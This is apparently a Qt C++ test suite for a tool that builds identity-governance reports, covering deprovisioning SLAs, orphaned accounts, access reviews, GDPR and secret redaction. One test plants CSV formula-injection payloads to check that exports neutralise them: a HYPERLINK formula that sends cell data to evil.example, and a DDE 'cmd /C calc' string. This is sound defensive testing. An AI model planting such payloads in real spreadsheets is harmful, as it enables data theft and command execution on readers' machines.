#include "chartrenderer.h"
#include "reportbuilder.h"
#include "reportcsvwriter.h"
#include "reportexporter.h"
#include "reportfixture.h"
#include "reporthtmlwriter.h"
#include "reportjsonwriter.h"
#include "reportpagelayout.h"
#include "reportqueries.h"
#include "scenario.h"
#include "scenarioimporter.h"
#include "store.h"
#include "teststore.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSet>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <limits>

using namespace Scimflow;

using namespace ReportTests;

class TestReports : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void deprovisioningHasExactlyThePlantedViolations();
    void orphanedCredentialsHasExactlyThePlantedAccount();
    void accessReviewListsEveryIdentityWithAccess();
    void accessReviewCarriesFindingsAgainstIdentities();
    void scopeRestrictsIdentities();
    void gdprListsProcessingRetentionAndRecords();
    void csvNeutralisesIdpDataInTheAccessReview();
    void headerCarriesPeriodFreshnessAndChainHead();
    void pdfContainsThePlantedViolations();
    void noFormatContainsSecrets();
    void cancelledReportsStopWithoutOutput();
    void jobsAreReadUntilTheReaderStops();
    void commandLineRejectsBadInput();

private:
    ReportOptions options(ReportKind kind) const;
    ReportDocument build(const ReportOptions &o);

    QTemporaryDir m_dir;
    QString m_db;
    Scenario m_scenario;
    std::unique_ptr<Store> m_store;
};

ReportOptions TestReports::options(ReportKind kind) const
{
    ReportOptions o;
    o.kind = kind;
    o.from = kAnchor - 45 * kMsPerDay; // includes lena.fischer, who left 40 days before the anchor
    o.to = kAnchor + kMsPerHour;
    o.generatedAt = kAnchor;
    return o;
}

ReportDocument TestReports::build(const ReportOptions &o)
{
    Result<ReportDocument> doc = ReportBuilder::build(*m_store, o);
    if (!doc)
        qWarning("%s", qPrintable(doc.error().message));
    return doc ? *doc : ReportDocument();
}

void TestReports::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_db = TestStore::location(m_dir, QStringLiteral("demo.db"));
    m_scenario = ScenarioGenerator::generate(ScenarioSpec::demo(), kAnchor);
    auto store = Store::open(m_db);
    QVERIFY(store);
    m_store = std::move(*store);
    QVERIFY(ScenarioImporter::write(*m_store, m_scenario));
}

void TestReports::deprovisioningHasExactlyThePlantedViolations()
{
    const ReportDocument doc = build(options(ReportKind::Deprovisioning));
    const QString path = m_dir.filePath(QStringLiteral("deprov.json"));
    QVERIFY(ReportExporter::write(doc, ReportFormat::Json, path));
    const QJsonObject json = QJsonDocument::fromJson(readFile(path)).object();
    const QJsonArray rows =
        json[QStringLiteral("tables")].toArray().at(0).toObject()[QStringLiteral("rows")].toArray();

    // Expected from the scenario: every user deactivated in the period; violations are the leavers with
    // pipeline activity afterwards.
    QSet<QString> leavers;
    for (const IdentityEvent &e : m_scenario.events) {
        if (e.kind == IdentityEvent::Kind::Deactivated && e.at >= kAnchor - 45 * kMsPerDay)
            leavers.insert(e.subject);
    }
    QSet<QString> listed, violations;
    for (const QJsonValue &v : rows) {
        const QJsonObject row = v.toObject();
        listed.insert(row[QStringLiteral("user")].toString());
        if (row[QStringLiteral("sla_status")].toString() == QLatin1String("VIOLATION"))
            violations.insert(row[QStringLiteral("user")].toString());
    }
    QCOMPARE(listed, leavers);
    QCOMPARE(violations, (QSet<QString>{QStringLiteral("dana.whitfield@example.com"),
                                        QStringLiteral("marcus.oyelaran@example.com")}));
    QVERIFY(listed.contains(QStringLiteral("tom.becker@example.com")));
    QVERIFY(listed.contains(QStringLiteral("lena.fischer@example.com")));
    QCOMPARE(json[QStringLiteral("summary")].toObject()[QStringLiteral("violations")].toInt(), 2);

    // Marcus: deactivated 6 days ago, his launch 2 days ago ended 38 minutes later -> 4 days + 38 min.
    for (const QJsonValue &v : rows) {
        const QJsonObject row = v.toObject();
        if (row[QStringLiteral("user")].toString() == QLatin1String("marcus.oyelaran@example.com"))
            QCOMPARE(row[QStringLiteral("delay_hours")].toString(), QStringLiteral("96.6"));
    }

    // A 5-day SLA: Dana's stream counts up to the generation time (3 days), Marcus 4 days: none violate.
    ReportOptions lenient = options(ReportKind::Deprovisioning);
    lenient.slaHours = 120;
    QCOMPARE(build(lenient).countValue(QStringLiteral("violations")), 0);

    // Marcus reactivated an hour after leaving: his later job is legitimate, no violation remains for him.
    QSqlQuery q(m_store->database());
    QVERIFY(
        q.exec(QStringLiteral("INSERT INTO identity_events(at, kind, user_id, subject, source) SELECT %1, "
                              "'reactivated', id, user_name, 'idp' FROM users WHERE user_name = "
                              "'marcus.oyelaran@example.com'")
                   .arg(kAnchor - 6 * kMsPerDay + kMsPerHour)));
    const ReportDocument reactivated = build(options(ReportKind::Deprovisioning));
    QCOMPARE(reactivated.countValue(QStringLiteral("violations")), 1);
    for (const QStringList &row : reactivated.tables[0].rows) {
        if (row[0] == QLatin1String("marcus.oyelaran@example.com")) {
            QVERIFY(row[3].startsWith(QStringLiteral("deactivated, reactivated 2026-11-22T13:00:00Z")));
            QCOMPARE(row.last(), QStringLiteral("ok"));
        }
    }
    QVERIFY(q.exec(QStringLiteral("DELETE FROM identity_events WHERE kind = 'reactivated'")));
}

void TestReports::orphanedCredentialsHasExactlyThePlantedAccount()
{
    const ReportDocument doc = build(options(ReportKind::OrphanedCredentials));
    const QString path = m_dir.filePath(QStringLiteral("orphaned.csv"));
    Result<QStringList> files = ReportExporter::write(doc, ReportFormat::Csv, path);
    QVERIFY(files);
    const QList<QStringList> rows = parseCsv(readFile(path));
    QCOMPARE(rows.size(), 2); // header + legacy-export
    const QString legacy = QStringLiteral("legacy-export@scimflow-demo.iam.gserviceaccount.com");
    QCOMPARE(rows[1][0], legacy);
    QVERIFY(rows[1][columnOf(rows[0], QStringLiteral("Reasons"))].contains(QStringLiteral("no owner")));
    QCOMPARE(rows[1][columnOf(rows[0], QStringLiteral("Idle (days)"))], QStringLiteral("8"));

    // With a 7-day idle limit it is also idle, and still the only one.
    ReportOptions strict = options(ReportKind::OrphanedCredentials);
    strict.idleDays = 7;
    const ReportDocument strictDoc = build(strict);
    QCOMPARE(strictDoc.tables[0].rows.size(), 1);
    QCOMPARE(strictDoc.tables[0].rows[0].last(), QStringLiteral("no owner, idle"));
}

void TestReports::accessReviewListsEveryIdentityWithAccess()
{
    const ReportDocument doc = build(options(ReportKind::AccessReview));
    QSet<QString> expected;
    QHash<QString, QStringList> groupsOf;
    for (const Group &g : m_scenario.groups) {
        if (m_scenario.groupRoles.value(g.displayName).isEmpty())
            continue;
        for (const QString &member : g.memberScimIds)
            groupsOf[member] << g.displayName;
    }
    qint64 inactive = 0;
    for (const User &u : m_scenario.users) {
        if (groupsOf.contains(u.scimId)) {
            expected.insert(u.userName);
            inactive += !u.active;
        }
    }
    for (const ServiceAccount &sa : m_scenario.serviceAccounts)
        expected.insert(sa.email);
    QString unknownPrincipal;
    for (const PlantedDrift &p : m_scenario.planted) {
        if (p.rule == QLatin1String("unknown-principal"))
            unknownPrincipal = p.subject;
    }
    expected.insert(unknownPrincipal); // ran a job, matches nobody: listed for review
    QSet<QString> listed;
    for (const QStringList &row : doc.tables[0].rows)
        listed.insert(row[0]);
    QCOMPARE(listed, expected);
    QCOMPARE(doc.countValue(QStringLiteral("inactive_users_with_access")), inactive);
    QCOMPARE(doc.countValue(QStringLiteral("service_accounts")), qint64(m_scenario.serviceAccounts.size()));
    QCOMPARE(doc.countValue(QStringLiteral("unknown_principals")), 1);
    for (const QStringList &row : doc.tables[0].rows) {
        if (row[0] == unknownPrincipal)
            QCOMPARE(row[3], QStringLiteral("no IdP match"));
    }

    const QList<QStringList> csv = parseCsv(ReportCsvWriter::table(doc.tables[0]));
    QCOMPARE(csv[0].last(), QStringLiteral("Reviewer sign-off"));
    for (const QStringList &row : csv.mid(1)) {
        QCOMPARE(row.size(), csv[0].size());
        QVERIFY(row.last().isEmpty());
    }
}

void TestReports::accessReviewCarriesFindingsAgainstIdentities()
{
    // Findings as the drift rules would store them: one against a job (Dana's ghost run), one against a
    // service account.
    QString danaJob;
    for (const PlantedDrift &p : m_scenario.planted) {
        if (p.rule == QLatin1String("ghost-run"))
            danaJob = p.subject;
    }
    QVERIFY(!danaJob.isEmpty());
    QSqlQuery q(m_store->database());
    QVERIFY2(
        q.exec(QStringLiteral(
                   "INSERT INTO findings(fingerprint, rule, severity, subject_kind, subject, summary, "
                   "first_seen, last_seen) VALUES('f1', 'ghost-run', 4, 'job', '%1', 'ghost', %2, %2),"
                   "('f2', 'role-mapping-drift', 2, 'service-account', "
                   "'marketing-sync@scimflow-demo.iam.gserviceaccount.com', 'drift', %2, %2),"
                   "('f3', 'stale-sync', 1, 'source', 'dataflow', 'old', %2, %2),"
                   "('f4', 'unknown-principal', 3, 'principal', 'ext.contractor@partner-agency.example', "
                   "'who', %2, %2)")
                   .arg(danaJob)
                   .arg(kAnchor - kMsPerDay)),
        qPrintable(q.lastError().text()));
    const ReportDocument doc = build(options(ReportKind::AccessReview));
    QMap<QString, QString> findings;
    for (const QStringList &row : doc.tables[0].rows) {
        if (!row.last().isEmpty())
            findings.insert(row[0], row.last());
    }
    QCOMPARE(findings.keys(),
             (QStringList{QStringLiteral("dana.whitfield@example.com"),
                          QStringLiteral("ext.contractor@partner-agency.example"),
                          QStringLiteral("marketing-sync@scimflow-demo.iam.gserviceaccount.com")}));
    QCOMPARE(findings.first(), QStringLiteral("ghost-run (critical)"));
    QCOMPARE(doc.countValue(QStringLiteral("identities_with_findings")), 3);
    QCOMPARE(doc.countValue(QStringLiteral("findings")), 3); // the stale-sync finding is about no identity
    const ChartData &severity = doc.charts[1];
    QCOMPARE(severity.values[4], 1.0);
    QCOMPARE(severity.values[2], 1.0);
    QCOMPARE(severity.values[3], 1.0);
    QCOMPARE(severity.values[1], 0.0);
    QVERIFY(q.exec(QStringLiteral("DELETE FROM findings")));
}

void TestReports::scopeRestrictsIdentities()
{
    ReportOptions o = options(ReportKind::AccessReview);
    o.scope.roles = {QStringLiteral("dataflow.admin")};
    const ReportDocument admins = build(o);
    QVERIFY(!admins.tables[0].rows.isEmpty());
    for (const QStringList &row : admins.tables[0].rows)
        QVERIFY2(row[6].contains(QStringLiteral("dataflow.admin")) ||
                     row[4] == QLatin1String("data-platform-admins"),
                 qPrintable(row.join(u'|')));
    QVERIFY(admins.tables[0].rows.size() < build(options(ReportKind::AccessReview)).tables[0].rows.size());

    o.scope.roles.clear();
    o.scope.source = QStringLiteral("github");
    const ReportDocument github = build(o);
    for (const QStringList &row : github.tables[0].rows) {
        QCOMPARE(row[1], QStringLiteral("user")); // no service account ran a GitHub workflow
        QVERIFY(row[7] == QLatin1String("never") || !row[7].isEmpty());
    }
}

void TestReports::gdprListsProcessingRetentionAndRecords()
{
    const ReportDocument doc = build(options(ReportKind::Gdpr));
    const ReportTable *processing = doc.table(QStringLiteral("processing"));
    QVERIFY(processing);
    bool contractor = false;
    for (const QStringList &row : processing->rows)
        contractor |= row[0] == QLatin1String("ext.contractor@partner-agency.example") &&
                      row[3] == QLatin1String("no IdP match");
    QVERIFY(contractor);
    const ReportTable *retention = doc.table(QStringLiteral("retention"));
    QVERIFY(retention);
    QCOMPARE(retention->rows[0][0], QStringLiteral("users"));
    QCOMPARE(retention->rows[0][1], QString::number(m_scenario.users.size()));
    QVERIFY(doc.table(QStringLiteral("deletions")));
    const ReportTable *records = doc.table(QStringLiteral("records_of_processing"));
    QVERIFY(records);
    QCOMPARE(records->rows.size(), 1);
    QCOMPARE(records->rows[0][0], QStringLiteral("scenario"));
}

void TestReports::csvNeutralisesIdpDataInTheAccessReview()
{
    QSqlQuery q(m_store->database());
    const QString hostile = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    q.prepare(
        QStringLiteral("INSERT INTO users(scim_id, user_name, display_name, department) VALUES(?,?,?,?)"));
    q.addBindValue(QStringLiteral("hostile-1"));
    q.addBindValue(QStringLiteral("@mallory@example.com"));
    q.addBindValue(hostile);
    q.addBindValue(QStringLiteral("+cmd|' /C calc'!A0"));
    QVERIFY2(q.exec(), qPrintable(q.lastError().text()));
    const qint64 id = q.lastInsertId().toLongLong();
    QVERIFY(
        q.exec(QStringLiteral("INSERT INTO memberships(group_id, user_id) SELECT id, %1 FROM groups WHERE "
                              "display_name = 'analytics'")
                   .arg(id)));

    const QString path = m_dir.filePath(QStringLiteral("access.csv"));
    QVERIFY(ReportExporter::write(build(options(ReportKind::AccessReview)), ReportFormat::Csv, path));
    const QByteArray bytes = readFile(path);
    QVERIFY(bytes.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    const QList<QStringList> rows = parseCsv(bytes);
    bool found = false;
    for (const QStringList &row : rows) {
        if (row[0] == QLatin1String("'@mallory@example.com")) {
            found = true;
            QCOMPARE(row[2], QLatin1Char('\'') + hostile);
            QCOMPARE(row[4], QStringLiteral("'+cmd|' /C calc'!A0"));
        }
        for (const QString &cell : row) {
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell[0]), qPrintable(cell));
        }
    }
    QVERIFY(found);
    // Other formats keep the data as it is (escaped for HTML).
    const ReportDocument doc = build(options(ReportKind::AccessReview));
    QVERIFY(ReportHtmlWriter::write(doc).contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
    QVERIFY(q.exec(QStringLiteral("DELETE FROM memberships WHERE user_id = %1").arg(id)));
    QVERIFY(q.exec(QStringLiteral("DELETE FROM users WHERE id = %1").arg(id)));
}

void TestReports::headerCarriesPeriodFreshnessAndChainHead()
{
    ReportDocument doc = build(options(ReportKind::OrphanedCredentials));
    QVERIFY(doc.chainHead.isEmpty());
    QCOMPARE(ReportJsonWriter::toJson(doc)[QStringLiteral("auditChainHead")].type(), QJsonValue::Null);

    QSqlQuery q(m_store->database());
    const Timestamp synced = kAnchor - 2 * kMsPerHour;
    QVERIFY(q.exec(QStringLiteral("INSERT INTO sync_runs(source, started_at, finished_at, status) VALUES"
                                  "('dataflow', %1, %2, 'ok'), ('dataflow', %3, %3, 'failed')")
                       .arg(synced - 60000)
                       .arg(synced)
                       .arg(synced + kMsPerHour)));
    const QString hash = QStringLiteral("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    QVERIFY(q.exec(
        QStringLiteral("INSERT INTO audit_log(seq, at, os_user, kind, action, target, prev_hash, hash) "
                       "VALUES(1, %1, 'ops', 'intent', 'deactivate-user', 'x', '', 'aaa'),"
                       "(2, %1, 'ops', 'outcome', 'deactivate-user', 'x', 'aaa', '%2')")
            .arg(kAnchor - kMsPerHour)
            .arg(hash)));
    doc = build(options(ReportKind::OrphanedCredentials));
    const QJsonObject json = ReportJsonWriter::toJson(doc);
    QCOMPARE(json[QStringLiteral("period")].toObject()[QStringLiteral("from")].toString(),
             QStringLiteral("2026-10-14T12:00:00Z"));
    QCOMPARE(json[QStringLiteral("period")].toObject()[QStringLiteral("to")].toString(),
             QStringLiteral("2026-11-28T13:00:00Z"));
    QCOMPARE(json[QStringLiteral("generatedAt")].toString(), QStringLiteral("2026-11-28T12:00:00Z"));
    QMap<QString, QString> freshness;
    for (const QJsonValue &v : json[QStringLiteral("freshness")].toArray())
        freshness.insert(v[QStringLiteral("source")].toString(),
                         v[QStringLiteral("lastSuccessfulSync")].toString());
    QCOMPARE(freshness.value(QStringLiteral("dataflow")), QStringLiteral("2026-11-28T10:00:00Z"));
    QVERIFY(freshness.contains(QStringLiteral("scenario")));
    QCOMPARE(json[QStringLiteral("auditChainHead")].toObject()[QStringLiteral("seq")].toInt(), 2);
    QCOMPARE(json[QStringLiteral("auditChainHead")].toObject()[QStringLiteral("hash")].toString(), hash);
    QCOMPARE(json[QStringLiteral("auditChainHead")].toObject()[QStringLiteral("head")].toString(),
             QStringLiteral("2:") + hash);
    QVERIFY(doc.notes.size() == 1); // no recorded head in meta: nothing to warn about
    QVERIFY(m_store->setMetaValue(QStringLiteral("audit.head"), QStringLiteral("3:") + hash));
    const ReportDocument warned = build(options(ReportKind::OrphanedCredentials));
    QVERIFY(warned.notes.last().contains(QStringLiteral("recorded head is 3:")));
    QVERIFY(m_store->setMetaValue(QStringLiteral("audit.head"), QStringLiteral("2:") + hash));
    QCOMPARE(build(options(ReportKind::OrphanedCredentials)).notes.size(), 1);

    const QByteArray html = ReportHtmlWriter::write(doc);
    QVERIFY(html.contains(hash.toUtf8()));
    QVERIFY(html.contains("2026-11-28T10:00:00Z"));
    QVERIFY(html.contains("data:image/png;base64,"));
    QVERIFY(!html.contains("http://") && !html.contains("https://")); // self-contained
    const QList<QStringList> about = parseCsv(ReportCsvWriter::about(doc));
    QVERIFY(about.contains(QStringList{QStringLiteral("audit_chain_head_hash"), hash}));
    QVERIFY(about.contains(QStringList{QStringLiteral("audit_chain_head"), QStringLiteral("2:") + hash}));
    QVERIFY(about.contains(
        QStringList{QStringLiteral("last_sync.dataflow"), QStringLiteral("2026-11-28T10:00:00Z")}));
    QVERIFY(
        about.contains(QStringList{QStringLiteral("period_from"), QStringLiteral("2026-10-14T12:00:00Z")}));

    // The GDPR report lists the fix from the audit log as performed.
    const ReportDocument gdpr = build(options(ReportKind::Gdpr)); // the table lives in the document
    const ReportTable *deletions = gdpr.table(QStringLiteral("deletions"));
    QVERIFY(deletions);
    QCOMPARE(deletions->rows.size(), 1);
    QVERIFY(deletions->rows[0][3].contains(QStringLiteral("audit seq 2")));
}

void TestReports::pdfContainsThePlantedViolations()
{
    if (QStandardPaths::findExecutable(QStringLiteral("pdftotext")).isEmpty())
        QSKIP("pdftotext (poppler-utils) is not installed");
    const QString path = m_dir.filePath(QStringLiteral("deprov.pdf"));
    QVERIFY(ReportExporter::write(build(options(ReportKind::Deprovisioning)), ReportFormat::Pdf, path));
    const QString text = pdfText(path);
    QVERIFY2(text.contains(QStringLiteral("Deprovisioning timeliness")), qPrintable(text.left(500)));
    QCOMPARE(text.count(QStringLiteral("VIOLATION")), 2);
    for (const QString &line : text.split(u'\n')) {
        if (line.contains(QStringLiteral("VIOLATION")))
            QVERIFY2(line.contains(QStringLiteral("dana.whitfield")) ||
                         line.contains(QStringLiteral("marcus.oyelaran")),
                     qPrintable(line));
    }
    QVERIFY(text.contains(QStringLiteral("tom.becker@example.com")));
    QVERIFY(text.contains(QStringLiteral("lena.fischer@example.com")));
    QVERIFY(text.contains(QStringLiteral("2026-10-14T12:00:00Z to 2026-11-28T13:00:00Z")));
    QVERIFY(text.contains(QStringLiteral("Page 1 of")));
    QVERIFY(text.contains(QStringLiteral("Audit chain head")));
    // The header test appended two audit entries; the head is printed as `audit verify --head` takes it.
    QVERIFY(
        text.contains(QStringLiteral("2:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")));
}

void TestReports::noFormatContainsSecrets()
{
    const QString secret = QStringLiteral("keychain:scimflow/okta-prod-client-secret-9c1f");
    QSqlQuery q(m_store->database());
    QVERIFY(q.exec(
        QStringLiteral("INSERT INTO connection_profiles(name, scim_url, vendor, client_id, secret_ref) "
                       "VALUES('okta-prod', 'https://acme.okta.example/scim/v2', 'okta', 'cid', '%1')")
            .arg(secret)));
    for (ReportKind kind : {ReportKind::AccessReview, ReportKind::Deprovisioning,
                            ReportKind::OrphanedCredentials, ReportKind::Gdpr}) {
        const ReportDocument doc = build(options(kind));
        QVERIFY(!ReportJsonWriter::write(doc).contains(secret.toUtf8()));
        QVERIFY(!ReportHtmlWriter::write(doc).contains(secret.toUtf8()));
        for (const ReportTable &t : doc.tables)
            QVERIFY(!ReportCsvWriter::table(t).contains(secret.toUtf8()));
        if (kind == ReportKind::Gdpr) {
            QVERIFY(ReportJsonWriter::write(doc).contains(
                "okta-prod")); // the profile is recorded, not its secret
            if (!QStandardPaths::findExecutable(QStringLiteral("pdftotext")).isEmpty()) {
                const QString path = m_dir.filePath(QStringLiteral("gdpr.pdf"));
                QVERIFY(ReportExporter::write(doc, ReportFormat::Pdf, path));
                const QString text = pdfText(path);
                QVERIFY(text.contains(QStringLiteral("okta-prod")));
                QVERIFY(!text.contains(QStringLiteral("client-secret")));
            }
        }
    }
    QVERIFY(q.exec(QStringLiteral("DELETE FROM connection_profiles")));
}

void TestReports::commandLineRejectsBadInput()
{
    const QString binary = QStringLiteral(SCIMFLOW_BINARY);
    auto run = [&](const QStringList &args, QString *err = nullptr) {
        QProcess p;
        p.start(binary, QStringList{QStringLiteral("report")} + args);
        p.waitForFinished(60000);
        if (err)
            *err = QString::fromUtf8(p.readAllStandardError());
        return p.exitCode();
    };
    const QString out = m_dir.filePath(QStringLiteral("cli.json"));
    const QStringList good{QStringLiteral("--db"),     m_db,
                           QStringLiteral("--kind"),   QStringLiteral("deprovisioning"),
                           QStringLiteral("--from"),   QStringLiteral("2026-10-14"),
                           QStringLiteral("--to"),     QStringLiteral("2026-11-28"),
                           QStringLiteral("--format"), QStringLiteral("json"),
                           QStringLiteral("--out"),    out};
    QString err;
    QCOMPARE(run(good, &err), 0);
    QVERIFY(QJsonDocument::fromJson(readFile(out)).object()[QStringLiteral("kind")].toString() ==
            QLatin1String("deprovisioning"));

    auto with = [&](const QString &option, const QString &value) {
        QStringList args = good;
        args[args.indexOf(option) + 1] = value;
        return args;
    };
    QCOMPARE(run(with(QStringLiteral("--kind"), QStringLiteral("soc3")), &err), 2);
    QVERIFY(err.contains(QStringLiteral("unknown report kind 'soc3'")));
    QCOMPARE(run(with(QStringLiteral("--format"), QStringLiteral("xlsx")), &err), 2);
    QVERIFY(err.contains(QStringLiteral("unknown format 'xlsx'")));
    QCOMPARE(run(with(QStringLiteral("--from"), QStringLiteral("yesterday")), &err), 2);
    QVERIFY(err.contains(QStringLiteral("--from is not a date")));
    QCOMPARE(run(with(QStringLiteral("--to"), QStringLiteral("2026-10-01")), &err), 2);
    QVERIFY(err.contains(QStringLiteral("before it starts")));
    QCOMPARE(run(good + QStringList{QStringLiteral("--sla-hours"), QStringLiteral("0")}, &err), 2);
    QVERIFY(err.contains(QStringLiteral("--sla-hours")));
    QCOMPARE(run(with(QStringLiteral("--db"), m_dir.filePath(QStringLiteral("missing.db"))), &err), 1);
    QVERIFY(err.contains(QStringLiteral("does not exist")));
    QVERIFY(!QFile::exists(m_dir.filePath(QStringLiteral("missing.db"))));
    QCOMPARE(run(with(QStringLiteral("--out"), QStringLiteral("/nonexistent-dir/x.json")), &err), 1);
    QStringList missing = good;
    missing.removeAt(missing.indexOf(QStringLiteral("--out")) + 1);
    missing.removeAll(QStringLiteral("--out"));
    QCOMPARE(run(missing, &err), 2);
    QVERIFY(err.contains(QStringLiteral("--out FILE is required")));
}

void TestReports::cancelledReportsStopWithoutOutput()
{
    ReportCancel cancel;
    cancel.cancel();
    Result<ReportDocument> doc = ReportBuilder::build(*m_store, options(ReportKind::AccessReview), &cancel);
    QVERIFY(!doc);
    QCOMPARE(doc.error().kind, Error::Kind::Cancelled);

    // Cancelling while pages are written leaves no partial PDF behind.
    const ReportDocument full = build(options(ReportKind::AccessReview));
    const QString path = m_dir.filePath(QStringLiteral("cancelled.pdf"));
    ReportCancel late;
    Result<QStringList> written =
        ReportExporter::write(full, ReportFormat::Pdf, path, &late, [&late](int done, int total) {
            if (done > 0 && done < total)
                late.cancel();
        });
    QVERIFY(!written);
    QCOMPARE(written.error().kind, Error::Kind::Cancelled);
    QVERIFY(!QFile::exists(path));
}

// The jobs stream to the reader until it stops them, and a source keeps to its own jobs.
void TestReports::jobsAreReadUntilTheReaderStops()
{
    const ReportQueries queries(*m_store);
    const Timestamp later = std::numeric_limits<Timestamp>::max();
    qint64 all = 0;
    QVERIFY(queries.jobsBefore(later, QString(), [&all](const ReportJobRow &) { return ++all > 0; }));
    QCOMPARE(all, m_store->count(QStringLiteral("jobs")));
    int seen = 0;
    QVERIFY(queries.jobsBefore(later, QString(), [&seen](const ReportJobRow &) { return ++seen < 3; }));
    QCOMPARE(seen, 3);
    const QString source = m_scenario.jobs.first().source;
    qint64 ofSource = 0, others = 0;
    QVERIFY(queries.jobsBefore(later, source, [&](const ReportJobRow &job) {
        (job.source == source ? ofSource : others) += 1;
        return true;
    }));
    QVERIFY(ofSource > 0);
    QVERIFY(ofSource < all);
    QCOMPARE(others, 0);
}

QTEST_MAIN(TestReports)
#include "tst_reports.moc"
